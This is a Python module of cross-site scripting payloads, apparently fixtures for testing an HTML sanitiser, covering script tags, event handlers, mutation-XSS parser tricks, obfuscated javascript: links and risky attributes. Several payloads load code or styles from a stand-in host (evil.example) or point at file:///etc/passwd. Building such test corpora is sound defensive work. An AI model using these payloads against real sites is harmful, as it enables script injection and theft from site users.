"""HTML that means harm: known ways round sanitisers, for every door that text comes in by."""

SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/XSS src='//evil.example/x.js'></script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<img src=x onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src='x' onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src=//evil.example/x.swf>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.example><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p onclick=alert(1)>x</p>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
)
# Parsed twice, these become something else than they were the first time.
MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=x&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<select><template><style><!--</style>"
    "<a rel='--></style></template></select><img src onerror=x>'>",
    "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<a href='https://ok.example/&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>x</a>",
    "<li><table><tr><p><a><li><table><style><img src=x onerror=alert(1)>",
)
LINKS = tuple(
    f'<a href="{href}">x</a>'
    for href in (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " &#14;  javascript:alert(1)",
        "java\tscript:alert(1)",
        "java&#x0A;script:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "javascript&colon;alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "//evil.example/x",
        "/\\evil.example",
        "https:evil.example",
        "\x01javascript:alert(1)",
        "feed:javascript:alert(1)",
        "view-source:https://x.example",
        "file:///etc/passwd",
        "ftp://x.example",
        "mailto:",
        "",
    )
)
ATTRIBUTES = tuple(
    f"<p {attribute}>x</p>"
    for attribute in (
        "hx-get='/logout'",
        "data-hx-post='/x'",
        "id=main",
        "name=version",
        "class=mark",
        "style='position:fixed'",
        "contenteditable",
        "is=x-y",
        "xmlns:x='x'",
        "href='https://x.example'",
    )
)
ATTACKS = SCRIPTS + MUTATIONS + LINKS + ATTRIBUTES
